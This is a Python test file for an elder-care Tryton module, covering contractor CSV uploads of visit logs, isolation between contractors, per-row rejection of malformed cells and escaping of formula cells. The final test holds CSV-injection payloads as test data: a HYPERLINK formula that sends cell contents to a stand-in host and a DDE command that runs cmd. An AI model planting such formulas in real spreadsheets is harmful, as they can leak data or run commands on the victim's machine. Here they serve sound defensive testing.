# This file is part of 莘情照护.  The COPYRIGHT file at the top level of
# this repository contains the full copyright notices and license terms.
"""A contractor uploads its visit logs in the client: stored as by
`care import visits`, whole or not at all, and it learns nothing of other
contractors' contracts or persons."""
import csv
import io

from trytond.exceptions import UserError
from trytond.i18n import gettext
from trytond.pool import Pool
from trytond.tests.test_tryton import with_transaction
from trytond.transaction import Transaction

from .tools import ActivatedTestCase, create_world

HEADER = ['外部编号', '合同编号', '身份证号', '服务项目', '服务人员', '开始时间',
    '结束时间', '经度', '纬度']


def csv_bytes(rows):
    output = io.StringIO(newline='')
    csv.writer(output).writerows([HEADER] + rows)
    return output.getvalue().encode('utf-8')


def raw_csv(rows):
    """CSV bytes of the header and rows, each row given as bytes (cells
    already joined): to hold what no csv writer writes"""
    return b'\n'.join([','.join(HEADER).encode('utf-8')] + rows) + b'\n'


class VisitUploadTestCase(ActivatedTestCase):
    "Upload visit logs"

    def contractor_user(self, world):
        pool = Pool()
        User = pool.get('res.user')
        ModelData = pool.get('ir.model.data')
        user, = User.create([{'login': 'contractor_a', 'name': 'A',
                    'groups': [('add', [ModelData.get_id(
                                    'care_procurement', 'group_contractor')])],
                    'care_contractor': world.contractors[0].id,
                    'companies': [('add', [world.company.id])],
                    'company': world.company.id}])
        return user

    def upload(self, user, data, filename='visits.csv'):
        "Run the wizard as the user, with access checks; return the result"
        pool = Pool()
        User = pool.get('res.user')
        Upload = pool.get('care.visit.upload', type='wizard')
        transaction = Transaction()
        with transaction.set_user(user.id):
            with transaction.set_context(
                    User.get_preferences(context_only=True),
                    _check_access=True):
                session_id, _, _ = Upload.create()
                Upload.execute(session_id, {'start': {
                            'file': data, 'filename': filename}}, 'import_')
                result = Upload.execute(session_id, {}, 'result')
        return result['view']['defaults']

    @with_transaction()
    def test_upload_own_visits(self):
        "Own rows are stored; rows naming others' records are rejected"
        Visit = Pool().get('care.visit')
        world = create_world()
        user = self.contractor_user(world)
        mine, other = world.persons[0], world.persons[3]
        data = csv_bytes([
                ['A-1', 'HT-A', mine.id_number, 'HC-MEAL', '刘芳',
                    '2025-03-03 09:00', '2025-03-03 09:40',
                    mine.longitude, mine.latitude],
                ['A-2', 'HT-A', mine.id_number, '助餐', '刘芳',
                    '2025-03-04 09:00', '2025-03-04 09:05', '', ''],
                # B's contract and B's person do not exist for A
                ['A-3', 'HT-B', other.id_number, 'HC-MEAL', '刘芳',
                    '2025-03-05 09:00', '2025-03-05 09:40', '', ''],
                ['A-4', 'HT-A', other.id_number, 'HC-MEAL', '刘芳',
                    '2025-03-06 09:00', '2025-03-06 09:40', '', ''],
                ])
        result = self.upload(user, data)
        self.assertEqual(result['summary'], gettext(
                'care_visit.msg_upload_summary', created=2, accepted=1,
                rejected=1, unchanged=0, rows=2))
        rejected = result['rejected'].decode('utf-8-sig').splitlines()
        self.assertEqual(rejected[0].split(','), HEADER + ['行号', '原因'])
        self.assertEqual([r.split(',')[0] for r in rejected[1:]],
            ['A-3', 'A-4'])
        self.assertEqual(result['rejected_name'], 'visits.rejected.csv')

        visits = {v.external_id: v for v in Visit.search([])}
        self.assertEqual(set(visits), {'A-1', 'A-2'})
        self.assertEqual(visits['A-1'].state, 'accepted')
        self.assertEqual((visits['A-2'].state, visits['A-2'].reason),
            ('rejected', 'too_short'))
        self.assertEqual(visits['A-1'].source, 'import')

        # Uploaded again: nothing changes
        again = self.upload(user, data)
        self.assertEqual(Visit.search_count([]), 2)
        self.assertEqual(again['rejected'], result['rejected'])

    @with_transaction()
    def test_unusable_file(self):
        "A file without the required columns is refused as a whole"
        world = create_world()
        user = self.contractor_user(world)
        data = '外部编号,合同编号\nA-1,HT-A\n'.encode('utf-8')
        with self.assertRaises(UserError) as cm:
            self.upload(user, data, 'bad.csv')
        self.assertIn('bad.csv', cm.exception.message)
        self.assertIn('身份证号', cm.exception.message)

    def contractor_user_b(self, world):
        pool = Pool()
        User = pool.get('res.user')
        ModelData = pool.get('ir.model.data')
        user, = User.create([{'login': 'contractor_b', 'name': 'B',
                    'groups': [('add', [ModelData.get_id(
                                    'care_procurement', 'group_contractor')])],
                    'care_contractor': world.contractors[1].id,
                    'companies': [('add', [world.company.id])],
                    'company': world.company.id}])
        return user

    @with_transaction()
    def test_other_contract_is_as_unknown(self):
        """A row naming another contractor's contract is rejected with the
        reason of a contract that does not exist; that contractor's own
        row with the same external id is stored afterwards"""
        Visit = Pool().get('care.visit')
        world = create_world()
        user_a = self.contractor_user(world)
        user_b = self.contractor_user_b(world)
        mine, theirs = world.persons[0], world.persons[3]
        result = self.upload(user_a, csv_bytes([
                    ['B-1', 'HT-B', mine.id_number, 'HC-MEAL', '刘芳',
                        '2025-03-03 09:00', '2025-03-03 09:40', '', ''],
                    ['B-2', 'HT-NONE', mine.id_number, 'HC-MEAL', '刘芳',
                        '2025-03-03 10:00', '2025-03-03 10:40', '', ''],
                    ]))
        rejected = list(csv.reader(io.StringIO(
                    result['rejected'].decode('utf-8-sig'))))
        self.assertEqual([r[0] for r in rejected[1:]], ['B-1', 'B-2'])
        foreign, unknown = rejected[1][-1], rejected[2][-1]
        self.assertEqual(foreign.replace('HT-B', '?'),
            unknown.replace('HT-NONE', '?'))
        self.assertFalse(Visit.search([
                    ('contract', '=', world.contracts[1].id)]))

        result = self.upload(user_b, csv_bytes([
                    ['B-1', 'HT-B', theirs.id_number, 'HC-MEAL', '孙丽',
                        '2025-03-03 09:00', '2025-03-03 09:40', '', '']]))
        self.assertEqual(result['summary'], gettext(
                'care_visit.msg_upload_summary', created=1, accepted=1,
                rejected=0, unchanged=0, rows=0))
        visit, = Visit.search([('contract', '=', world.contracts[1].id)])
        self.assertEqual((visit.external_id, visit.caregiver_name),
            ('B-1', '孙丽'))

    @with_transaction()
    def test_each_bad_row_rejected(self):
        """A cell over the csv module's limit, bytes that are no text, a NUL,
        times at the ends of the calendar, an external id of 10,000
        characters: each its row rejected with a reason naming the column
        and the limit; the good rows around them stored"""
        Visit = Pool().get('care.visit')
        world = create_world()
        user = self.contractor_user(world)
        number = world.persons[0].id_number.encode()

        def line(external_id, caregiver=b'\xe5\x88\x98\xe8\x8a\xb3',
                start=b'2025-03-03 09:00', end=b'2025-03-03 09:40'):
            return b','.join([external_id, b'HT-A', number, b'HC-MEAL',
                    caregiver, start, end, b'', b''])
        rows = [
            line(b'G-1'),
            line(b'X-1', caregiver=b'"' + b'x' * 140000 + b'"'),
            line(b'X-2', caregiver=b'\xff\xfe\x80\x81'),
            line(b'X-3', caregiver=b'\xe5\x88\x98\x00'),
            line(b'X-4', start=b'0001-01-01 00:00'),
            line(b'X-5', end=b'9999-12-31 23:59'),
            line(b'X-6', start=b'1899-12-31 09:00'),
            line(b'Y' * 10000),
            line(b'G-2', start=b'2025-03-04 09:00', end=b'2025-03-04 09:40'),
            ]
        result = self.upload(user, raw_csv(rows))
        self.assertEqual(result['summary'], gettext(
                'care_visit.msg_upload_summary', created=2, accepted=2,
                rejected=0, unchanged=0, rows=7))
        self.assertEqual({v.external_id for v in Visit.search([])},
            {'G-1', 'G-2'})
        rejected = list(csv.reader(io.StringIO(
                    result['rejected'].decode('utf-8-sig'))))
        self.assertEqual([r[-2] for r in rejected[1:]],
            [str(n) for n in range(3, 10)])
        reasons = [r[-1] for r in rejected[1:]]
        for reason, words in zip(reasons, [
                    ['服务人员', '100'], ['服务人员', 'NUL'],
                    ['服务人员', 'NUL'], ['开始时间', '1900', '2100'],
                    ['结束时间', '1900', '2100'], ['开始时间', '1900'],
                    ['外部编号', '100']]):
            for word in words:
                self.assertIn(word, reason)
        # The bytes that were no text come back replaced, not as an error
        self.assertEqual(rejected[2][4], '\ufffd' * 4)

    @with_transaction()
    def test_formulas_escaped_in_rejected_rows(self):
        "A cell written as a formula comes back as text in the rejected file"
        world = create_world()
        user = self.contractor_user(world)
        number = world.persons[0].id_number
        formulas = ['=HYPERLINK("http://x.example/?"&A1,"click")',
            "=cmd|' /C calc'!A0", '+SUM(1+1)', '@SUM(1+1)', '-2+3',
            '\t=1+1']
        result = self.upload(user, csv_bytes([
                    [formula, 'HT-NONE', number, 'HC-MEAL', '刘芳',
                        '2025-03-03 09:00', '2025-03-03 09:40', '', '']
                    for formula in formulas]))
        rejected = list(csv.reader(io.StringIO(
                    result['rejected'].decode('utf-8-sig'))))
        self.assertEqual([r[0] for r in rejected[1:]],
            ["'" + f for f in formulas])
